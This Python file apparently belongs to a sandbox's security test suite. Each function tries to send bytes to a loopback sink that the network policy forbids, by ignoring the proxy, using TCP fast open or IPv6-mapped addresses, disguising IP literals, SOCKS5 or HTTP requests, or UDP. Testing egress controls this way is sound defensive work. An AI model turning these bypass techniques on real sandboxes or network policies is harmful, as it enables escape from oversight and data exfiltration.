"""network.hosts: reaching a loopback sink the policy does not list, around or through
cvg-run's proxy. The sink is a listener the runner owns on a port no rule grants; the
oracle is whether any byte arrived. Without a sandbox there is no proxy, and each
attack connects directly (the baseline that proves the sink is reachable)."""

import os
import socket
import struct
import sys
from urllib.parse import urlsplit

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _lib import attack, main


def _sink(a):
    return tuple(a["sink"][:2])


def _proxy(name="HTTPS_PROXY"):
    """(host, port) of the proxy cvg-run named, or None without a sandbox."""
    url = os.environ.get(name) or os.environ.get(name.lower())
    if not url:
        return None
    parts = urlsplit(url)
    return parts.hostname, parts.port


def _through_connect(a, target):
    """An HTTP CONNECT to ``target`` (host:port as written), then send; direct when
    there is no proxy."""
    proxy = _proxy()
    if proxy is None:
        s = socket.create_connection(_sink(a), timeout=2)
        s.sendall(b"exfil")
        return
    s = socket.create_connection(proxy, timeout=5)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = s.recv(4096)
    sys.stderr.write(head.decode(errors="replace").splitlines()[0] + "\n" if head else "")
    s.sendall(b"exfil")


@attack("hosts", "tcp", policy="hosts")
def hosts_direct_connect_ignoring_proxy(a):
    """A tool that ignores the proxy variables and connects straight to the sink.
    Stopped by Landlock connect_tcp: only the proxy's port is granted."""
    s = socket.create_connection(_sink(a), timeout=2)
    s.sendall(b"exfil")


@attack("hosts", "tcp", policy="hosts")
def hosts_direct_connect_ipv6_mapped(a):
    """Straight to the sink over an AF_INET6 socket and a v4-mapped address.
    Stopped by Landlock connect_tcp, whatever the family."""
    if _proxy() is None:
        s = socket.create_connection(_sink(a), timeout=2)
    else:
        s = socket.socket(socket.AF_INET6)
        s.settimeout(2)
        s.connect(("::ffff:127.0.0.1", a["sink"][1]))
    s.sendall(b"exfil")


@attack("hosts", "tcp", policy="hosts")
def hosts_fastopen_ignoring_proxy(a):
    """TCP fast open to the sink: sendto(MSG_FASTOPEN) connects without connect().
    Stopped by seccomp (MSG_FASTOPEN refused) and Landlock."""
    s = socket.socket()
    s.sendto(b"exfil", 0x20000000, _sink(a))
    s.sendall(b"more")


@attack("hosts", "tcp", policy="hosts")
def hosts_connect_ip_literal_through_proxy(a):
    """Ask the proxy to CONNECT to the sink's IP literal. Stopped by the proxy: an IP
    literal is refused unless network.hosts lists it."""
    _through_connect(a, f"127.0.0.1:{a['sink'][1]}")


@attack("hosts", "tcp", policy="hosts")
def hosts_connect_unlisted_name_through_proxy(a):
    """Ask the proxy to CONNECT to localhost (a name no rule lists) on the sink's port.
    Stopped by the proxy."""
    _through_connect(a, f"localhost:{a['sink'][1]}")


@attack("hosts", "tcp", policy="hosts")
def hosts_connect_numeric_name_forms_through_proxy(a):
    """Ask the proxy for the sink as 127.1, 2130706433, 0x7f.0.0.1 and [::ffff:127.0.0.1]:
    forms a resolver may read as an address. Stopped by the proxy, which never resolves
    them."""
    proxy = _proxy()
    forms = ["127.1", "2130706433", "0x7f.0.0.1", "[::ffff:127.0.0.1]", "127.0.0.1."]
    if proxy is None:
        s = socket.create_connection(("127.1", a["sink"][1]), timeout=2)
        s.sendall(b"exfil")
        return
    for form in forms:
        try:
            _through_connect(a, f"{form}:{a['sink'][1]}")
        except OSError:
            continue


@attack("hosts", "tcp", policy="hosts")
def hosts_allowed_name_on_another_port(a):
    """Ask the proxy for a listed name (allowed.invalid) on the sink's port, which its
    rule does not list. Stopped by the proxy (the name does not resolve either)."""
    _through_connect(a, f"allowed.invalid:{a['sink'][1]}")


def _to_proxy(a, env):
    """A connection to the proxy ``env`` names; without one, the bytes go straight to
    the sink (the bare run) and there is no connection (None)."""
    proxy = _proxy(env)
    if proxy is None:
        s = socket.create_connection(_sink(a), timeout=2)
        s.sendall(b"exfil")
        return None
    return socket.create_connection(proxy, timeout=5)


@attack("hosts", "tcp", policy="hosts")
def hosts_socks5_ip_literal(a):
    """SOCKS5 CONNECT to the sink's IPv4 address. Stopped by the proxy."""
    s = _to_proxy(a, "ALL_PROXY")
    if s is None:
        return
    s.sendall(b"\x05\x01\x00")
    s.recv(2)
    s.sendall(b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack("!H", a["sink"][1]))
    s.recv(10)
    s.sendall(b"exfil")


@attack("hosts", "tcp", policy="hosts")
def hosts_http_absolute_url_to_ip(a):
    """A plain HTTP POST with an absolute URL naming the sink's address, the way a
    proxy-aware client sends http:// requests. Stopped by the proxy."""
    s = _to_proxy(a, "HTTP_PROXY")
    if s is None:
        return
    port = a["sink"][1]
    s.sendall(
        f"POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        "Content-Length: 5\r\n\r\nexfil".encode()
    )
    s.recv(4096)


@attack("hosts", "udp", policy="hosts")
def hosts_udp_around_proxy(a):
    """A UDP datagram (DNS-style exfiltration) to a loopback sink. Stopped by seccomp:
    network.hosts grants TCP through the proxy only."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfil", _sink(a))


if __name__ == "__main__":
    main(globals())
